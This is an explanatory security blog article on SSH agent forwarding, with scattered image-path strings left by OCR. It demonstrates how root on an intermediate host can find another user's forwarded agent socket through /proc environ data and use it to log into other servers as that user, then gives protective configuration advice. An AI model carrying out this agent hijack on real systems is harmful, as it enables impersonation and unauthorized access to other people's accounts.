When ForwardAgent Can’t Be Trusted

SSH without passwords makes life with Unix-like operating systems much easier. If your network requires chained ssh sessions (to access a restricted network, for example), agent forwarding becomes extremely helpful. With agent forwarding it’s possible for me to connect from my laptop to my dev server and from there run an svn checkout from yet another server, all without passwords, while keeping my private key safe on my local workstation.

This can be dangerous, though. A quick web search will reveal several articles indicating this is only safe if the intermediate hosts are trustworthy. Rarely, however, will you find an explanation of why it’s dangerous.

That’s what this article is for. But first, somebackground.

How Passwordless Authentication Works

When authenticating in normal mode, SSH uses your password to prove that you are who you say you are. The server compares a hash of this password to one it has on file, verifies that the hashes match, and lets you in.

If an attacker is able to break the encryption used to protect your password while it’s being sent to the server, they can steal the it and log in as you whenever they desire. If an attacker is allowed to perform hundreds of thousands of attempts, they can eventually guess your password.

A much safer authentication method is public key authentication, a way of logging in without a password. Public key authentication requires a matched pair of public and private keys. The public key encrypts messages that can only be decrypted with the private key. The remote computer uses its copy of your public key to encrypt a secret message to you. You prove you are you by decrypting the message using your private key and sending the message back to the remote computer. Your private key remains safely on your local computer the entire time, safe from attack.

The private key is valuable and must be protected, so by default it is stored in an encrypted format. Unfortunately this means entering your encryption passphrase before using it. Many articles suggest using passphrase-less (unencrypted) private keys to avoid this inconvenience. That’s a bad idea, as anyone with access to your workstation (via physical access, theft, or hackery) now also has free access to any computers configured with your public key.

OpenSSH includes ssh-agent, a daemon that runs on your local workstation. It loads a decrypted copy of your private key into memory, so you only have to enter your passphrase once. It then provides a local socket that the ssh client can use to ask it to decrypt the encrypted message sent back by the remote server. Your private key stays safely ensconced in the ssh-agentprocess’ memory while still allowing you to ssh around without typing in passwords.

How ForwardAgent Works

Many tasks require “chaining” ssh sessions. Consider my example from earlier: I ssh from my workstation to the dev server. While there, I need to perform an svn update, using the “svn+ssh” protocol. Since it would be silly to leave an unencrypted copy of my super-secret private key on a shared server, I’m now stuck with password authentication. If, however, I enabled “ForwardAgent” in the ssh config on my workstation, ssh uses its built-in tunneling capabilities to create another socket on the dev server that is tunneled back to the ssh-agent socket on my local workstation. This means that the ssh client on the dev server can now send “decrypt this secret message” requests directly back to the ssh-agent running on my workstation, authenticating itself to the svn server without ever having access to my private key.

Why This Can Be Dangerous

Simply put, anyone with root privilege on the the intermediate server can make free use of your ssh-agent to authenticate them to other servers. A simple demonstration shows how trivially this can be done. Hostnames and usernames have been changed to protect the innocent.

Mylaptop is running ssh-agent, which communicates with the ssh client programs via a socket. The path to this socket is stored in the SSH_AUTH_SOCK environment variable:

mylaptop:~ env|grep SSH_AUTH_SOCK

mylaptop:~ ls -l /tmp/launch-oQKpeY/Listeners
srwx---  1 alice  wheel  0 Apr  3 11:04 /tmp/launch-oQKpeY/Listeners

The ssh-add program lets us view and interact with keys in the agent:

mylaptop:~ alice$ ssh-add -l
2048 2c:2a:d6:09:bb:55:b3:ca:0c:f1:30:f9:d9:a3:c6:9e /Users/alice/.ssh/id_rsa (RSA)

I have “ForwardAgent yes” in the ~/.ssh/config on my laptop. So ssh is going to create a tunnel connecting the local socket to a local socket on the remote server:

mylaptop:~ alice$ ssh seattle

seattle:~ $ env|grep SSH_AUTH_SOCK

Even though my keys are not installed on “seattle”, the ssh client programs are still able to access the agent running on my local machine:

seattle:~ alice $ ssh-add -l
2048 2c:2a:d6:09:bb:55:b3:ca:0c:f1:30:f9:d9:a3:c6:9e /Users/alice/.ssh/id_rsa (RSA)

So… who can we mess with?seattle:~ alice $ who
alice   pts/0        2012-04-06 18:24 (office.example.com)
bob     pts/1        2012-04-03 01:29 (office.example.com)
alice   pts/3        2012-04-06 18:31 (office.example.com)
alice   pts/5        2012-04-06 18:31 (office.example.com)
alice   pts/6        2012-04-06 18:33 (office.example.com)
charlie pts/23       2012-04-06 13:10 (office.example.com)
charlie pts/27       2012-04-03 12:32 (office.example.com)
bob     pts/29       2012-04-02 10:58(office.example.com)

I’ve never liked Bob. To find his agent connection, I need to find the child process of one of his ssh sessions:

seattle:~ alice $ sudo -s
[sudo] password for alice:

seattle:~ root # pstree -p bob


There are several ways for root to view the environment of a running process. On Linux, the data is available in /proc/<pid>/environ. Since it’s stored in NULL-terminated strings, I’ll use tr to convert the NULLs to newlines:

seattle:~ root # tr '' 'n' < /proc/16817/environ | grep SSH_AUTH_SOCKI now have everything I need to know in order to hijack Bob’s ssh-agent:

seattle:~ root # SSH_AUTH_SOCK=/tmp/ssh-haqzR16816/agent.16816 ssh-add -l
2048 05:f1:12:f2:e6:ad:cb:0b:60:e3:92:fa:c3:62:19:17 /home/bob/.ssh/id_rsa (RSA)

If I happen to have a specific target in mind, I should now be able to connect directly. Otherwise, just watching the process list or grepping through Bob’s history file should presentplenty of targets of opportunity. In this case, I know Bob has all sorts of super secret files stored on the server named “boston”:

seattle:~ root # SSH_AUTH_SOCK=/tmp/ssh-haqzR16816/agent.16816 ssh bob@boston
bob@boston:~$ whoami

I have successfully parlayed my root privileges on “seattle” to access as bob on“boston”. I’ll bet I can use that to get him fired.

Protect Yourself!

Don’t let your ssh-agent store your keys indefinitely. On OS X, configure yourKeychain to lock after inactivity or when your screen locks. Onother Unix-y platforms, pass the -t  option to ssh-agent so its keys will be removed after  seconds.

Don’t enable agentforwarding when connecting to untrustworthy hosts. Fortunately, the~/.ssh/config syntax makes this fairly simple:

Hosttrustworthyhost
  ForwardAgentyes
Host *
  ForwardAgent no

Recommended Reading